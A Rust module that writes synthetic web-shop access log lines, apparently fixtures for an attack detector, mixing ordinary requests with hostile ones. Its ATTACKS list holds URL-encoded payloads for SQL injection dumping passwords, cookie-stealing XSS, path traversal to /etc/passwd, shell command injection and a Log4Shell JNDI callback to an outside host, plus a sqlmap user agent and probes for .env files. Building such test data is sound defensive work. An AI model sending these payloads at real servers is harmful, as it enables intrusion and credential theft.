//! The access log of a web shop, in the combined format.

use std::io::Write as _;

use jiff::Timestamp;
use jiff::tz::TimeZone;

use super::random::Random;

const AGENTS: [&str; 5] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://www.example.com/bot.html)",
    "ExampleMonitor/1.4",
];
const REFERERS: [&str; 4] =
    ["-", "https://www.example.com/", "https://www.example.com/shop/lamps?page=2", "https://search.example.net/"];
const PAGES: [&str; 8] = [
    "/",
    "/static/css/site.3f9ac1.css",
    "/static/js/app.81bd20.js",
    "/static/img/lamp-blue.webp",
    "/favicon.ico",
    "/shop/lamps/desk?page=3&sort=price",
    "/blog/2026/02/insert-versus-crop.html",
    "/api/v1/cart/7f3a/items?fields=id,name,price&lang=de",
];
/// Targets in which something is encoded, and which are harmless all the same.
const ENCODED: [&str; 5] = [
    "/static/img/lamp%20blue.webp",
    "/shop/search?q=reading+lamp&in=all",
    "/shop/search?q=select%20a%20lamp%20from%20the%20list",
    "/login?next=%2Faccount%2Forders",
    "/images/resize?src=%2Fmedia%2F2026%2Fhero.jpg&w=640&h=360",
];
const STATUSES: [u32; 10] = [200, 200, 200, 200, 200, 200, 304, 301, 206, 503];
const ATTACKS: [&str; 8] = [
    "/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
    "/login?user=admin%27+OR+%271%27%3D%271&next=%2F",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "/profile?name=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/%252e%252e/%252e%252e/%252e%252e/%252e%252e/etc/passwd",
    "/ping?host=192.0.2.1%3Bcat%20/etc/hostname",
    "/?x=$%7Bjndi:ldap://198.51.100.23/a%7D",
];
const ABSENT: [&str; 4] = ["/wp-login.php", "/.env", "/phpmyadmin/", "/old/catalogue.pdf"];

pub fn write(random: &mut Random, time: Timestamp, candidate: bool, out: &mut Vec<u8>) {
    let stamp = time.to_zoned(TimeZone::UTC).strftime("%d/%b/%Y:%H:%M:%S +0000");
    let (bytes, agent) = (200 + random.below(60_000), random.pick(&AGENTS));
    // Writing into memory cannot fail.
    let _ = if candidate {
        let address = random.hostile_address();
        let (target, status, agent) = match random.below(4) {
            0 => (random.pick(&ATTACKS), 200, agent),
            1 => (random.pick(&ATTACKS), 403, agent),
            2 => (random.pick(&ABSENT), 404, agent),
            _ => ("/index.php?id=1", 200, "sqlmap/1.9.4#stable (https://sqlmap.org)"),
        };
        write!(out, r#"{address} - - [{stamp}] "GET {target} HTTP/1.1" {status} {bytes} "-" "{agent}""#)
    } else {
        let method = if random.below(20) == 0 { "POST" } else { "GET" };
        // In real logs it is about one in thirty.
        let target = if random.below(15) == 0 { random.pick(&ENCODED) } else { random.pick(&PAGES) };
        let (address, status) = (random.address(), random.pick(&STATUSES));
        let referer = random.pick(&REFERERS);
        write!(out, r#"{address} - - [{stamp}] "{method} {target} HTTP/2.0" {status} {bytes} "{referer}" "{agent}""#)
    };
}
